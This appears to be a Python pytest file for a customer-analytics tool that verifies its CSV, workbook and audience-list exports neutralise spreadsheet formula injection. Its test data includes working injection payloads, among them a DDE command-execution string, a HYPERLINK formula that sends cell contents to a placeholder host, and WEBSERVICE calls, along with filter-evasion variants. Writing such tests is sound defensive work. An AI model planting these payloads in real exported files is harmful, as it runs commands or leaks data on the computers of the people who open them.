"""No text of the client's runs as a formula in a file that people open in a spreadsheet, whatever its settings are."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from customer_analytics.audiences import command
from customer_analytics.engagement import Project
from customer_analytics.pipeline.terminal import Terminal
from customer_analytics.report import csv_files
from customer_analytics.spreadsheet import RUNS, safe_raw_text, safe_text
from customer_analytics.tables.load import load

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
UNSEEN = " \u00a0\u3000\ufeff\u200b\u200e\u00ad"
DEEDS = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"paid")', "1+1", "SUM(A1:A9)", "DDE(1;2;3)",
    'WEBSERVICE("http://x.example")', "2+5+cmd|'x'!A0",
)  # fmt: skip
RUNNING = [
    *[sign + deed for sign in SIGNS for deed in DEEDS],
    *[unseen + sign + DEEDS[0] for unseen in UNSEEN for sign in SIGNS],
    *[mark + sign + DEEDS[0] for mark in "\t\r\n" for sign in ("=", "x")],
    *[f"ordinary{gap}{sign}{DEEDS[0]}" for gap in ("; ", ";", "\t", "\n", "\r\n", ';"', "\n ") for sign in SIGNS],
    *[f'"{sign}{DEEDS[0]}' for sign in "=@"],
    *[f",{sign}1" for sign in SIGNS],
]
QUIET = ["a = b", "x@y.example", "one-two", "C++", "5 - 3", "a;b", "tab\there", "'=1", "北京＝x", ""]
NUMBERS = ["-12.50", "+49", "-1e5", "-1,234.5", "+8613800000000"]
_NUMBER = re.compile(r"[+-]?[0-9][0-9.,]*(?:[eE][+-]?[0-9]+)?")


def cells(text: str) -> Iterator[str]:
    """Every cell that a spreadsheet makes of a file, with each of the usual settings."""
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from row


def running(text: str) -> list[str]:
    """The cells of a file that would run."""
    return [
        cell
        for cell in cells(text)
        if not _NUMBER.fullmatch(cell) and ((cell.lstrip(UNSEEN) or "x")[0] in SIGNS or cell[:1] in ("\t", "\r", "\n"))
    ]


@pytest.mark.parametrize("text", RUNNING)
def test_a_text_that_would_run_is_marked(text: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerow(["first", safe_text(text), "last"])
    assert running(out.getvalue()) == []
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    assert safe_text(text).replace("'", "") == lines.replace("'", "")  # nothing but apostrophes is added


@pytest.mark.parametrize("text", QUIET)
def test_other_texts_stay_to_the_letter(text: str) -> None:
    assert safe_text(text) == safe_raw_text(text) == text
    assert not re.search(RUNS, text)


@pytest.mark.parametrize("text", NUMBERS)
def test_a_number_of_a_file_stays_a_number(text: str) -> None:
    assert safe_raw_text(text) == text


def test_tables_of_reports_hold_nothing_that_runs(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=1+1": RUNNING, "@x": pd.Categorical(RUNNING), "money": [-1.5] * len(RUNNING)})
    csv_files.write(tmp_path / "table.csv", frame)
    text = (tmp_path / "table.csv").read_text(encoding="utf-8")
    assert running(text) == []
    read = pd.read_csv(tmp_path / "table.csv")
    assert read["money"].tolist() == frame["money"].tolist()
    assert read["'=1+1"].tolist() == [safe_text(text) for text in RUNNING]


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A client each of whose ids, words and headings would run, with rows that are set aside."""
    folder = tmp_path_factory.mktemp("formulas") / "client"
    raw = folder / "data" / "raw"
    raw.mkdir(parents=True)
    (folder / "engagement.yml").write_text(
        "client: C\nconsultancy: D\nminimum_group: 1\nsources:\n"
        "  - table: orders\n    files: data/raw/orders.csv\n"
        "    columns: {order_id: no, customer_id: who, ordered_at: day, amount: total, channel: '=way'}\n"
        "    set_aside: [{reason: '=reason', when: [{column: total, equals: '0'}]}]\n",
        encoding="utf-8",
    )
    with (raw / "orders.csv").open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["no", "who", "day", "total", "=way", "@note"])
        for place, text in enumerate(RUNNING):
            one_line = " ".join(text.split())  # ids and words of channels on one line
            writer.writerow([f"={place}", one_line, "2024-03-01", 10 + place, one_line, text])
            writer.writerow([f"+{place}x", one_line, "2024-03-02", 0, one_line, text])
    project = Project.find(folder)
    load(project)
    return project


def test_rows_set_aside_hold_nothing_that_runs(client: Project) -> None:
    text = (client.tables / "set_aside" / "orders.csv").read_text(encoding="utf-8")
    assert running(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(RUNNING)
    assert {row["total"] for row in rows} == {"0"}


def test_lists_hold_nothing_that_runs_and_workbooks_no_formula(client: Project) -> None:
    request = command.read(
        "revenue > 0", None, name="all", holdout="20%", columns="revenue,favourite_channel",
        formats="xlsx,segment,braze",
        seed=None, strata=None, contact_cap=None, exclude_held_out=False, campaign=None, expires=None, as_of=None,
        replace=False,
    )  # fmt: skip
    (client.folder / "tags.yml").write_text(
        "owner: A\ntags:\n  behaviour:\n    favourite_channel: {label: {en: C, zh_CN: C}, meaning: {en: C, zh_CN: C},"
        " rule: most(orders.channel), source: orders}\n",
        encoding="utf-8",
    )
    assert command.make(client, request, Terminal(quiet=True), dry_run=False) == 0
    folder = client.audiences / "all"
    written = sorted(folder.glob("*.csv"))
    assert [file.name for file in written] == ["braze.csv", "holdout.csv", "list.csv"]
    for file in written:
        assert running(file.read_text(encoding="utf-8")) == [], file.name
    with zipfile.ZipFile(folder / "list.xlsx") as book:
        parts = {name: book.read(name).decode("utf-8", "replace") for name in book.namelist()}
    assert not [name for name, text in parts.items() if re.search(r"<f[ >]|<hyperlink|externalLink|ddeLink", text)]
    calls = [json.loads(line) for line in (folder / "segment.jsonl").read_text(encoding="utf-8").splitlines()]
    ids = {call["userId"] for body in calls for call in body["batch"]}
    assert ids <= {" ".join(text.split()) for text in RUNNING}  # for a program, not for a spreadsheet: to the letter
